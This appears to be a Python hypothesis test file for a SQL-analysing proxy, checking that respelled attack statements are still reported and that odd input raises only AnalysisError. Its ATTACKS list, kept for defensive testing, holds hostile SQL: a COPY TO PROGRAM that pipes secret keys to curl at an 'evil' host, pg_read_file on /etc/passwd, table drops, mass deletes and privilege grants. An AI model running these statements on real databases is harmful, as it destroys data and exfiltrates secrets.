"""Properties over generated input: respelling an attack never changes what is reported, and
no input whatsoever makes analyze() raise anything but AnalysisError."""

from __future__ import annotations

import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pglast.parser import scan

from proxyworker.analysis import AnalysisError, StatementInfo, analyze
from tests.analysis.expect import effects
from tests.analysis.test_definitions import CODE, DDL
from tests.analysis.test_evasions import EVASIONS
from tests.analysis.test_statements import CASES

ATTACKS = [
    "DELETE FROM users WHERE id = 1",
    "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
    "UPDATE accounts SET balance = 0",
    "EXPLAIN ANALYZE DELETE FROM audit_log",
    "COPY (SELECT * FROM secret_keys) TO PROGRAM 'curl https://evil'",
    "SELECT pg_read_file('/etc/passwd'), Pg_Catalog.Lo_Import('/x')",
    "SELECT set_config('search_path', 'evil', false)",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "INSERT INTO users SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET admin = true",
    "TRUNCATE ONLY users, app.orders CASCADE",
    "DROP TABLE IF EXISTS users CASCADE",
    "ALTER TABLE users RENAME TO users_old",
    "PREPARE p AS DELETE FROM users",
    "SELECT * INTO stolen FROM secret_keys",
    "CREATE TABLE copy AS SELECT * FROM secret_keys",
    "DO $$ BEGIN DELETE FROM users; EXECUTE 'DROP TABLE audit'; END $$",
    "CALL purge_users(1)",
    "SELECT * FROM public.users u JOIN LATERAL (SELECT * FROM orders WHERE uid = u.id) x ON true",
    'DELETE FROM "Users" WHERE "Id" = 1 RETURNING *',
    "SELECT * FROM t WHERE x IN (SELECT y FROM secret_keys) AND f(z) > 0",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM users'",
    "SET search_path = evil, public",
    "GRANT ALL ON users TO mallory",
    "SELECT 1; DELETE FROM users; COMMIT",
]

# Whatever goes between two tokens. Comments get spaces around them: "-" followed directly by
# "--" would turn the minus into the start of a comment, which is a different statement.
SEPARATORS = [" ", "  ", "\t", "\n", "\r\n", "\f", " /* c */ ", " /* a /* b */ c */ ", " -- c\n"]


def respell(sql: str, rnd: random.Random) -> str:
    """Same statement, other spelling: keyword and bare-identifier case, whitespace, comments."""
    out: list[str] = []
    previous_end = -1
    for token in scan(sql):
        text = sql[token.start : token.end + 1]
        if token.name in ("C_COMMENT", "SQL_COMMENT"):
            continue
        if out:
            adjacent = token.start == previous_end + 1
            out.append(rnd.choice(["", *SEPARATORS] if adjacent else SEPARATORS))
        bare_word = token.kind != "NO_KEYWORD" or (token.name == "IDENT" and text[0] != '"')
        if bare_word and text[:2].upper() != "U&":
            text = "".join(c.upper() if rnd.random() < 0.5 else c.lower() for c in text)
        out.append(text)
        previous_end = token.end
    return "".join(out)


def summary(infos: tuple[StatementInfo, ...]) -> list[object]:
    return [(i.kind, i.command, i.fingerprint, effects(i)) for i in infos]


@pytest.mark.parametrize("attack", ATTACKS)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rnd=st.randoms(use_true_random=False))
def test_it_reports_the_same_effects_however_an_attack_is_spelled(
    attack: str, rnd: random.Random
) -> None:
    respelled = respell(attack, rnd)
    assert summary(analyze(respelled)) == summary(analyze(attack)), respelled


def test_it_has_enough_table_cases_to_mean_something() -> None:
    assert len(CASES + CODE + DDL + EVASIONS) >= 80


def test_it_respells_for_real() -> None:
    spelled = respell("DELETE FROM users WHERE id = 1", random.Random(3))
    assert spelled != "DELETE FROM users WHERE id = 1"
    assert spelled.lower().split()[0] == "delete"


WORDS = """
    SELECT select FROM WHERE DELETE INSERT INTO VALUES UPDATE SET WITH AS DO BEGIN END EXECUTE
    PREPARE COPY TO PROGRAM EXPLAIN ANALYZE CREATE FUNCTION TABLE DROP TRUNCATE RETURNS LANGUAGE
    plpgsql sql RETURN IF THEN LOOP RECURSIVE LATERAL ATOMIC users "Users" U&"\\0061" t1 f ( ) ,
    ; . * = ' '' 'x' E'\\'' $$ $q$ $1 -- /* */ :: := \\ é 1 -1e9 0x 1_ [ ] % ::regclass
"""
VOCABULARY = [*WORDS.split(), "\x00", "\n", "\ud800"]
SQLISH = st.lists(st.one_of(st.sampled_from(VOCABULARY), st.text(max_size=4)), max_size=30).map(
    " ".join
)


def assert_analysed_or_refused(sql: str) -> None:
    try:
        infos = analyze(sql)
    except AnalysisError as error:
        assert error.message
        return
    assert all(isinstance(info, StatementInfo) for info in infos)


@settings(max_examples=400, deadline=None)
@given(sql=st.one_of(st.text(max_size=200), SQLISH))
def test_it_raises_nothing_but_analysis_error_on_any_input(sql: str) -> None:
    assert_analysed_or_refused(sql)


SKELETON = "select * from users where pw = -- "


@st.composite
def mutated_statements(draw: st.DrawFn) -> str:
    """A real statement with tokens dropped, repeated or swapped: parseable more often than
    random text, so the walker sees odd but valid trees."""
    sql = draw(st.sampled_from([case.sql for case in CASES + CODE + DDL + EVASIONS]))
    words = [sql[t.start : t.end + 1] for t in scan(sql)]
    for _ in range(draw(st.integers(1, 3))):
        if not words:
            break
        i = draw(st.integers(0, len(words) - 1))
        action = draw(st.sampled_from(["drop", "repeat", "swap"]))
        if action == "drop":
            del words[i]
        elif action == "repeat":
            words.insert(i, words[i])
        elif i + 1 < len(words):
            words[i], words[i + 1] = words[i + 1], words[i]
    return " ".join(words)


@settings(max_examples=400, deadline=None)
@given(sql=mutated_statements())
def test_it_raises_nothing_but_analysis_error_on_mangled_statements(sql: str) -> None:
    assert_analysed_or_refused(sql)


@settings(max_examples=100, deadline=None)
@given(
    secret=st.text(
        alphabet=st.characters(codec="utf-8", exclude_characters="'$\\\x00"),
        min_size=6,
        max_size=20,
    ).filter(lambda s: not any(c.isspace() for c in s) and s.lower() not in SKELETON),
    form=st.sampled_from(["'{}'", "E'{}'", "$x${}$x$", "U&'{}'"]),
)
def test_it_keeps_literal_values_out_of_normalized_text(secret: str, form: str) -> None:
    sql = f"SELECT * FROM users WHERE pw = {form.format(secret)} -- {secret}"
    try:
        (info,) = analyze(sql)
    except AnalysisError:
        return  # e.g. a U& string with an invalid escape: denied, nothing to leak
    assert secret not in info.normalized
